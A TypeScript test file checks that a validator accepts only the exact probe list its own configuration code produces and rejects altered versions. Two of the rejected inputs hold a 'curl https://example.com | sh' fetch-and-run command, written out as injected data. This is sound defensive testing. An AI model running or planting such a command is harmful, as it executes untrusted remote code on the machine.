import { expect, test } from "vitest";
import { probeConfig } from "../../../components/bootstrap/probe/config.ts";
import { isProbeList } from "../../../policies/user-data/probe-list.ts";

const made = probeConfig({ stack: "shanghai", group: "workers", region: "cn-shanghai", internet: true });
const text = (more: object = {}) => JSON.stringify({ ...made, ...more });

test("the list as the probe's own code writes it", () => {
  expect(isProbeList(text())).toBe(true);
});

test.each([
  [
    "a place that the catalogue does not have",
    text({ targets: [...made.targets, { ...made.targets[0], url: "https://example.com/" }] }),
  ],
  ["something beside the list", text({ install: "curl https://example.com | sh" })],
  ["another text that begins like it", '{"probe":1,\ncurl https://example.com | sh'],
  ["a list of another kind", text({ probe: 2 })],
])("%s is judged as any file", (_, other) => {
  expect(isProbeList(other)).toBe(false);
});
